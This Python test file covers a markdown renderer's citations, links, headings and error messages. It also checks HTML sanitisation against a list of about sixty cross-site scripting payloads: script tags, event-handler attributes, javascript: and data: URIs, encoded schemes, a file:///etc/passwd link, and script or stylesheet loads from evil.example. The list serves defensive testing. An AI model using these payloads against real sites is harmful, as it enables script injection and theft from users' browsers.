"""Bodies become HTML that is safe, cited, linked, and told about when it cannot be."""

import re
import sys
from concurrent.futures import ThreadPoolExecutor
from html import unescape
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dateline import dialect
from dateline.catalogues import tongue_for
from dateline.markup import Body, plain, render
from dateline.markup.body import TAGS, _clean
from dateline.problems import Place

CITATIONS = {"ev-com": (1, 3), "electrek": (2,)}
PAGES = {"ford-denies.md": "../ford-denies/", "/about/": "../../about/"}


def rendered(text: str, **more: object) -> tuple[Body, list[str]]:
    arguments: dict[str, object] = {
        "citations": CITATIONS,
        "place": Place("x.md", 10),
        "resolve": PAGES.get,
    }
    body, problems = render(text, **(arguments | more))
    return body, [str(problem).removeprefix("x.md:") for problem in problems]


def html_of(text: str, **more: object) -> str:
    body, problems = rendered(text, **more)
    assert problems == []
    return body.html


def ref(number: int, again: str = "", prefix: str = "") -> str:
    link = f'href="#{prefix}c{number}" id="{prefix}r{number}{again}"'
    source = next(id for id, numbers in CITATIONS.items() if number in numbers)
    before, after = '<span class="vh"> Citation </span>', f'<span class="vh">: {source}</span>'
    return f'<a class="ref" {link}>{before}{number}{after}</a>'


MARKDOWN = {
    "": "",
    " \n\n": "",
    "One.\nTwo.\n\nThree.": "<p>One.\nTwo.</p>\n<p>Three.</p>",
    "*em* _em_ **strong** a_b_c": "<p><em>em</em> <em>em</em> <strong>strong</strong> a_b_c</p>",
    "`a < b & *c*`": "<p><code>a &lt; b &amp; *c*</code></p>",
    "- a\n- b": "<ul><li>a</li><li>b</li></ul>",
    "1. a\n2. b": "<ol><li>a</li><li>b</li></ol>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "> quoted\n> on": "<blockquote><p>quoted\non</p></blockquote>",
    "a\n\n---\n\nb": "<p>a</p>\n<hr>\n<p>b</p>",
    "a  \nb": "<p>a<br>b</p>",
    "\\*a\\* \\[b] \\<i>": "<p>*a* [b] &lt;i&gt;</p>",
    "AT&T &amp; &copy; 3 < 4": "<p>AT&amp;T &amp; © 3 &lt; 4</p>",
    "    four spaces": "<p>four spaces</p>",
    "not underlined\n===": "<p>not underlined\n===</p>",
    "[a]: https://x.org": "<p>[a]: https://x.org</p>",
    "<https://x.org/_a_>": '<p><a href="https://x.org/_a_" rel="external noopener">https://x.org/_a_</a></p>',
    "[x](https://x.org?a=1&copy=2&amp;b)": '<p><a href="https://x.org?a=1&amp;copy=2&amp;b" '
    'rel="external noopener">x</a></p>',
    "[x](mailto:a@x.org)": '<p><a href="mailto:a@x.org">x</a></p>',
    "[x](HTTPS://x.org 'title')": '<p><a href="HTTPS://x.org" rel="external noopener">x</a></p>',
    "# *So* it [went](/about/)\n\n## so it went!\n\n## Main": '<h2 id="so-it-went"><em>So</em> it '
    '<a href="../../about/">went</a></h2>\n<h3 id="so-it-went-2">so it went!</h3>\n'
    '<h3 id="section-main">Main</h3>',
    "[x](#c2)": '<p><a href="#c2">x</a></p>',
    "[*x*](ford-denies.md)": '<p><a href="../ford-denies/"><em>x</em></a></p>',
    "[x](/about/) [y]( </about/> )": '<p><a href="../../about/">x</a> <a href="../../about/">y</a></p>',
    "f(x)[0] (see)": "<p>f(x)[0] (see)</p>",
    "[unclosed (link": "<p>[unclosed (link</p>",
}


@pytest.mark.parametrize(("text", "html"), MARKDOWN.items())
def test_the_markdown_of_bodies(text: str, html: str) -> None:
    assert html_of(text) == html


HEADINGS = {
    "# a": "h2",
    "### a\n\n# b": "h2 h2",
    "# a\n\n#### b\n\n## c": "h2 h3 h3",
    "#### a\n\n###### b": "h2 h3",
    "# a\n## b\n### c\n#### d\n##### e\n###### f": "h2 h3 h4 h5 h6 h6",
}


@pytest.mark.parametrize(("text", "levels"), HEADINGS.items())
def test_headings_stand_below_the_pages_own_and_skip_no_level(text: str, levels: str) -> None:
    assert " ".join(re.findall(r"<(h\d)", html_of(text))) == levels


def test_headings_begin_at_the_level_that_the_page_asks_for() -> None:
    assert html_of("# a\n\n## b", base_heading=4, id_prefix="n-") == "<h4>a</h4>\n<h5>b</h5>"


def test_a_citation_links_to_its_note_and_can_be_linked_back_to() -> None:
    assert html_of("It did [@electrek].") == f'<p>It did<sup class="refs">{ref(2)}</sup>.</p>'


def test_a_source_that_is_cited_twice_has_two_numbers() -> None:
    assert html_of("So [@ev-com].") == f'<p>So<sup class="refs">{ref(1)}{ref(3)}</sup>.</p>'


def test_a_number_chooses_among_the_citations_of_a_source() -> None:
    assert html_of("So [@ev-com, 2].") == f'<p>So<sup class="refs">{ref(3)}</sup>.</p>'


@pytest.mark.parametrize(
    "text", ["[@electrek; @ev-com, 2]", "[@electrek;\n@ev-com,2]", "[@electrek;@ev-com, 2; @electrek]"]
)
def test_several_sources_share_one_pair_of_brackets(text: str) -> None:
    assert html_of(f"So {text}.") == f'<p>So<sup class="refs">{ref(2)}{ref(3)}</sup>.</p>'


def test_each_return_to_a_citation_has_its_own_way_back() -> None:
    html = html_of("A [@electrek].\n\n- *B* [@electrek]\n\nC [@electrek].")
    assert re.findall(r'id="([^"]+)"', html) == ["r2", "r2-2", "r2-3"]


def test_two_bodies_on_one_page_are_kept_apart() -> None:
    html = html_of("A [@electrek].", id_prefix="ft-")
    assert html == f'<p>A<sup class="refs">{ref(2, prefix="ft-")}</sup>.</p>'


def test_a_block_lists_the_citations_that_it_is_first_to_cite() -> None:
    body, _ = rendered("A [@electrek].\n\nB.\n\n> C [@ev-com, 2] [@electrek]\n>\n> D [@ev-com].")
    assert [block.cites for block in body.blocks] == [(2,), (), (3, 1)]


def test_an_empty_body_is_false() -> None:
    assert not rendered("\n")[0] and rendered("x")[0]


FAULTS = {
    "A [@electrk].": ('10:5: error: "electrk" is not among the citations here. Did you mean "electrek"?',),
    "A\nb *c* [@zz; @electrek].": (
        '11:9: error: "zz" is not among the citations here. List it under citations first.',
    ),
    "- x\n\n> [@electrek; @zz]": (
        '12:16: error: "zz" is not among the citations here. List it under citations first.',
    ),
    "[@electrek, 2]": (
        '10:3: error: "electrek" is cited once here, so there is no number 2. Write [@electrek].',
    ),
    "[@ev-com, 0] `x`": (
        '10:3: error: "ev-com" is cited 2 times here, so there is no number 0. '
        "Write [@ev-com] or a number from 1 to 2.",
    ),
    "[@ev-com, 99999999999999999999]": (
        '10:3: error: "ev-com" is cited 2 times here, so there is no number 99999999999999999999. '
        "Write [@ev-com] or a number from 1 to 2.",
    ),
    "[a][b]": (
        "10:1: warning: links by number or name are not read here; readers see the signs as you typed them. "
        "Write [words](address).",
    ),
    "[@electrek][@ev-com] [council][@electrek] [@electrek] (https://e.example/)": (),
    "`see [a][b]`, ``x ` [y] (https://e.example)``": (),
    "```sh\n<b>[a][b]\n\n|---|\n@electrek [^1]\n```": (
        "10:1: warning: blocks of code are not read here; readers see the signs as you typed them. "
        "Write `code` within a line.",
    ),
    "A \\[@ sign and @electrek, [@electrek].": (
        '10:16: warning: "@electrek" is not a citation; readers see it as it stands. '
        "To cite, write [@electrek]; if readers should see it so, \\@electrek.",
    ),
    "A [@ electrek], [@electrek": (
        "10:3: error: this is not a citation. Write [@electrek].",
        "10:17: error: this is not a citation. Write [@source], [@source, 2] or [@source; @another].",
    ),
    "A **b** c\n**d\n\n*e* **f**, \\*\\*g and `**`": (
        "11:1: warning: this emphasis is never closed; readers see the signs as you typed them. "
        r"Write ** where it ends, or \*\* if you mean the signs.",
    ),
    "***a** b*\n\nx **y**z": (),
    "Title\n=====\n\n===\n\n- [x] done\n\n~~gone~~ ~ ~~ `~~x~~` \\~~a~~": (
        "11:1: warning: underlined headings are not read here; readers see the signs as you typed them. "
        "Write ## and a space before the heading, and delete this line.",
        "15:3: warning: lists of tasks are not read here; readers see the signs as you typed them. "
        "Delete the brackets.",
        "17:1: warning: text is not struck out here; readers see the signs as you typed them. "
        "Delete it; what was wrong in an event belongs in its corrections.",
    ),
    "A [@ electrek, 2]": ("10:3: error: this is not a citation. Write [@electrek, 2].",),
    "[see [@electrek] here](/about/)": (
        "10:6: error: a citation cannot stand inside a link. Write it after the link.",
    ),
    "A\n\n[x](ford-denys.md)": (
        '12:5: error: there is no page "ford-denys.md". '
        "Write a content file as ../sources/name.md, or a page from the site's root as /about/.",
    ),
    "[x]()": (
        '10:5: error: there is no page "". '
        "Write a content file as ../sources/name.md, or a page from the site's root as /about/.",
    ),
    "[x](//evil.example/)": (
        '10:5: error: there is no page "//evil.example/". '
        "Write a content file as ../sources/name.md, or a page from the site's root as /about/.",
    ),
    "[x](javascript:alert(1))": (
        '10:5: error: "javascript:alert(1)" cannot be linked to: "javascript:" is not allowed. '
        "Links begin with https:, http: or mailto:.",
    ),
    "*a* [x](my page.md)": (
        "10:7: warning: this is not a link. "
        "Write [words](address), or [words](<address>) if it holds spaces.",
    ),
    "![x](y.png": (
        '10:1: error: this is not a picture. Write ![what it shows](media/bridge.jpg "caption").',
    ),
    "See ![x](y.png).": (
        "10:5: error: a picture stands in a paragraph of its own. Put an empty line before it and after it.",
    ),
    "![x]()": (
        '10:1: error: this picture names no file. Write ![what it shows](media/bridge.jpg "caption").',
    ),
    "Before.\n\n![x](https://example.org/y.png)": (
        '12:1: error: "https://example.org/y.png" is not a file of this site. '
        "Save it in content/media/: pages load pictures from this site only.",
    ),
    "![x](y.svg)": (
        '10:1: error: "y.svg" cannot be shown: a drawing in SVG can carry scripts, and fonts and pictures '
        "from elsewhere. Save it as PNG, at twice the size at which it is shown.",
    ),
    '![""](talk.mp3)': ("10:1: error: only a picture can do without an alt. Say what is seen or heard.",),
    "[x](me@mill.example)": (
        '10:5: error: there is no page "me@mill.example". Write mailto:me@mill.example.',
    ),
    "[x](www.echo.example)": (
        '10:5: error: there is no page "www.echo.example". '
        "Write https://www.echo.example if it is on another site.",
    ),
    "[x](echo.example/a)": (
        '10:5: error: there is no page "echo.example/a". '
        "Write https://echo.example/a if it is on another site.",
    ),
    "So it says (@electrek), @ev-com [electrek].": (
        '10:13: warning: "@electrek" is not a citation; readers see it as it stands. '
        "To cite, write [@electrek]; if readers should see it so, \\@electrek.",
        '10:25: warning: "@ev-com" is not a citation; readers see it as it stands. '
        "To cite, write [@ev-com]; if readers should see it so, \\@ev-com.",
        '10:33: warning: "[electrek]" is not a citation; readers see it as it stands. '
        "To cite, write [@electrek]; if readers should see it so, \\[electrek].",
    ),
    "*@electrek*\n\n- [electrek] `\\`": (
        '10:2: warning: "@electrek" is not a citation; readers see it as it stands. '
        "To cite, write [@electrek]; if readers should see it so, \\@electrek.",
        '12:3: warning: "[electrek]" is not a citation; readers see it as it stands. '
        "To cite, write [@electrek]; if readers should see it so, \\[electrek].",
    ),
    "a <b>c</b>": (
        "10:3: warning: HTML is not read here; readers see it as you typed it. "
        "Write *emphasis*, **strong** or [words](address), or \\< if you mean the sign.",
    ),
    "a <b>c": (
        "10:3: warning: HTML is not read here; readers see it as you typed it. "
        "Write *emphasis*, **strong** or [words](address), or \\< if you mean the sign.",
    ),
}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("<https://x.example/@electrek>", "https://x.example/@electrek</a>"),
        ("<https://x.example/?by=@electrek>", "https://x.example/?by=@electrek</a>"),
        ("[a channel](https://x.example/@electrek/all)", 'href="https://x.example/@electrek/all"'),
        ("[a channel](<https://x.example/?by=@electrek>)", 'href="https://x.example/?by=@electrek"'),
        ("https://x.example/@electrek", "https://x.example/@electrek"),
        ("`[electrek]` and `see @electrek`", "<code>[electrek]</code> and <code>see @electrek</code>"),
        (r"\[electrek] and \@electrek", "[electrek] and @electrek"),
        ("[electrek](/about/)", ">electrek</a>"),
        ("me@electrek, @electrek_com", "me@electrek, @electrek_com"),
        ("[@ev-com;  @electrek]", ref(1)),
    ],
)
def test_what_only_looks_like_a_citation_of_a_source_is_left_alone(text: str, html: str) -> None:
    assert html in html_of(text)


@pytest.mark.parametrize(("text", "messages"), FAULTS.items())
def test_a_fault_in_a_body_has_its_line_and_column(text: str, messages: tuple[str, ...]) -> None:
    assert rendered(text)[1] == list(messages)
    assert rendered(text.replace("\n", "\r\n"))[1] == list(messages)


def test_a_link_that_is_nearly_right_brings_a_suggestion() -> None:
    _, problems = rendered("[x](ford-denys.md)", known=lambda: PAGES)
    assert problems == ['10:5: error: there is no page "ford-denys.md". Did you mean "ford-denies.md"?']


def test_where_nothing_is_cited_a_citation_is_told_so() -> None:
    _, problems = rendered("A [@electrek].", citations={})
    assert problems == [
        '10:5: error: "electrek" is not among the citations here. '
        "Only an event that lists citations can cite; elsewhere, link to the source's page."
    ]


@pytest.mark.parametrize(
    "text",
    [
        "`[@zz] ![a](b) <b>`",
        "\\[@zz]",
        "a@zz.org [a@zz]",
        "Said [@electrek; @ev-com] and [@ev-com;@electrek].",
        "Mail me@electrek or @electrek-news, @Electrek, `@electrek` and [electrek](/about/).",
        "[another] and @another are words.",
    ],
)
def test_what_only_looks_like_a_citation_is_left_alone(text: str) -> None:
    assert rendered(text)[1] == []


PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<p onclick=alert(1)>\n\nx\n\n</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&amp;#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](/about/\"onmouseover=\"alert(1))",
    '[x](/about/ "a\\" onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "<https://x.org/\"onmouseover=\"alert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](y.png)',
    "![x](https://evil.example/track.gif)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "`</code><script>alert(1)</script>`",
    "[@x\"><script>alert(1)</script>]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "# <script>alert(1)</script>",
    "> <script>\n> alert(1)</script>",
    "- <img src=x\n  onerror=alert(1)>",
)  # fmt: skip
SURROUNDINGS = ("{}", "words {} words", "# {}", "- a\n- {}", "> {}", "[{}](/about/)", "**{}**", "a `b` {}")


def live(element: Element) -> list[str]:
    """What could run, load or mislead in this tree: elements, attributes and addresses off our lists."""
    found = []
    for node in element.iter():
        tag = str(node.tag).rpartition("}")[2]
        if tag not in {*TAGS, "DOCUMENT_FRAGMENT"}:
            found.append(tag)
        for name, value in node.attrib.items():
            if name not in {"href", "id", "rel", "class", "start"}:
                found.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?:|mailto:|#|\.\./)", value):
                found.append(value)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_survives(payload: str) -> None:
    for surroundings in SURROUNDINGS:
        body, _ = rendered(surroundings.format(payload), resolve=lambda link: PAGES.get(link.strip()))
        assert live(html5lib.parseFragment(body.html)) == []


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith("<") and "\n" not in p][:20])
def test_html_is_shown_as_it_was_typed(payload: str) -> None:
    body, _ = rendered(f"a {payload}")
    shown = "".join(html5lib.parseFragment(body.html).itertext())
    assert shown == f"a {payload}"


def test_the_cleaner_stands_guard_even_where_the_dialect_fails() -> None:
    made = (
        "<p><script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:x' onclick=y>z</a></p>"
    )
    assert live(html5lib.parseFragment(_clean(made))) == []


PIECES = (
    *(
        "A word",
        " ",
        "\n",
        "\n\n",
        "\n\n\n",
        ".",
        "’s",
        '"',
        "'",
        "1",
        "2.",
        "1. ",
        "- ",
        "+",
        "=",
        "é",
        "中文",
    ),
    *("(", ")", "!", "?", "-", "--", "---", ":", "/", "~", "|", "{", "}", "$3", "\u2003", "\u3000", "\u200f"),
    *("[@electrek]", "[@ev-com, 2]", "[@ev-com; @electrek]", "[@zz]", "*", "[", "]", "[@", "&", "\\", "\t"),
)
PROSE = st.lists(st.sampled_from(PIECES), max_size=12).map("".join)


@given(PROSE)
def test_text_that_skips_markdown_reads_as_if_it_had_not(text: str) -> None:
    quick = rendered(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(dialect, "is_plain", lambda text: False)
        assert rendered(text) == quick


@pytest.mark.parametrize("text", ["Plain words [@electrek].\nAnd on.\n\nMore – “quoted”, 3.5 km; it’s so."])
def test_common_text_skips_markdown(text: str) -> None:
    assert dialect.is_plain(text)


@given(st.text(alphabet="ab[]()@!<>*_`\\#->&;:.,/\"' \n\t\x02\x03\x0e\x17é1", max_size=60))
def test_no_text_raises_anything_and_all_that_is_made_is_ours(text: str) -> None:
    body, problems = rendered(text)
    assert live(html5lib.parseFragment(body.html)) == []
    assert not re.search(f"[{dialect._DIGITS}]", body.html + plain(text))
    assert all(re.match(r"\d+:\d+: ", problem) for problem in problems)


def test_text_that_is_nested_too_deeply_is_told_and_harms_no_other() -> None:
    deep = "\n".join("    " * depth + "- x" for depth in range(300))
    body, problems = rendered(deep)
    assert not body.blocks and plain(deep) == ""
    assert problems == [
        "10: error: this text is nested too deeply to be read. "
        "Remove some brackets, quotation signs or indentation."
    ]
    assert html_of("*after*") == "<p><em>after</em></p>"


REPEATED = {
    # signs, and what is left of them for a reader
    "[": "[",
    "[a](": "[a](",
    "[@": "[@",
    "![": "![",
    "*a ": "*a ",
    "> ": "> ",
    "`": "`",
    "<a ": "<a ",
    "[x](/about/) ": "x ",
    "[@electrek] ": " Citation 2: electrek",
}


@pytest.mark.parametrize(("sign", "shown"), REPEATED.items())
def test_hostile_repetition_is_read_to_the_end(sign: str, shown: str) -> None:
    body, _ = rendered(sign * 2000 + "the end")
    read = unescape(re.sub("<[^>]*>", "", body.html.replace("<blockquote>", "> ")))
    assert "".join(read.split()) == "".join((shown * 2000 + "the end").split())


PLAIN = {
    "": "",
    "Plain words [@a], and more [@b, 2].\n\nThen.": "Plain words, and more. Then.",
    "# Head\n\n- *one* [@a]\n- [two](x.md)\n\n> `a < b` &amp; AT&T": "Head one two a < b & AT&T",
    "<b>x</b> ![p](q.png)": "<b>x</b>",
}


@pytest.mark.parametrize(("text", "words"), PLAIN.items())
def test_the_words_of_a_body_for_a_description(text: str, words: str) -> None:
    assert plain(text) == words


@pytest.mark.parametrize(
    ("language", "said"),
    {
        "en": "Citation 2: Electrek",
        "de": "Beleg 2: Electrek",
        "fr": "Référence 2 : Electrek",
        "es": "Referencia 2: Electrek",
        "zh": "引证 2：Electrek",
        "ja": "引用元 2：Electrek",
        "ar": "إحالة 2: \N{FIRST STRONG ISOLATE}Electrek\N{POP DIRECTIONAL ISOLATE}",
    }.items(),
)
def test_a_citation_in_the_text_says_its_number_and_its_source_in_the_language_of_the_page(
    language: str, said: str
) -> None:
    body = html_of("So it was [@electrek].", names={"electrek": "Electrek"}, tongue=tongue_for(language))
    link = html5lib.parse(body, namespaceHTMLElements=False).find(".//a")
    assert "".join(link.itertext()).replace("\xa0", " ").replace("\u202f", " ").strip() == said


def test_bodies_are_rendered_by_several_threads_at_once() -> None:
    texts = [f"*{number}* **b** `c` \\* [l](https://example.org/)\n\n" * 30 for number in range(12)]
    alone = [rendered(text)[0] for text in texts]
    usual = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)
    try:
        with ThreadPoolExecutor(4) as threads:
            assert [body for body, _ in threads.map(rendered, texts)] == alone
    finally:
        sys.setswitchinterval(usual)
